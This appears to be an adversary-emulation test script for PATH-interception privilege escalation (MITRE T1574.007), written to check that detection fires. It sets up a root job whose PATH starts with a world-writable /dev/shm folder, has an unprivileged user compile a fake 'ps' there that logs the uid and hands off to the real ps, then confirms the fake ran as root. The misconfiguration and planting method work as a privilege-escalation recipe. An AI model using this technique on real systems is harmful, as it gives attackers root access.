# technique: T1574.007
# tactic: privilege-escalation
# name: Fake ps planted in a world-writable folder early in a root job's PATH (PATH interception)
# expect: detected
. "$EMULATION_LIB"
need setpriv gcc
# A private, empty /dev/shm: the host's /dev/shm is never touched.
private_tmpfs /dev/shm
# The misconfiguration: a root monitoring job whose PATH starts with a world-writable folder.
mkdir -m 1777 /dev/shm/.tools
cat > job.sh <<'JOB'
#!/bin/sh
PATH=/dev/shm/.tools:/usr/sbin:/usr/bin:/sbin:/bin
ps -e > /dev/null
JOB

# The attacker, as an unprivileged user, builds a "ps" there that records who ran it and then hands
# over to the real ps so nothing looks wrong.
setpriv --reuid=65534 --regid=65534 --clear-groups sh -c '
cd /dev/shm/.tools && TMPDIR=/dev/shm/.tools gcc -x c -o ps - <<"SRC"
#include <stdio.h>
#include <unistd.h>
int main(int argc, char **argv) {
	FILE *f = fopen("/dev/shm/.tools/.owned", "w");
	if (f) { fprintf(f, "%d\n", (int)getuid()); fclose(f); }
	argv[0] = "ps";
	execv("/bin/ps", argv);
	return 1;
}
SRC
chmod 755 /dev/shm/.tools/ps'

# The root job runs as usual and now runs the attacker's ps as root.
sh job.sh
test "$(cat /dev/shm/.tools/.owned)" = 0
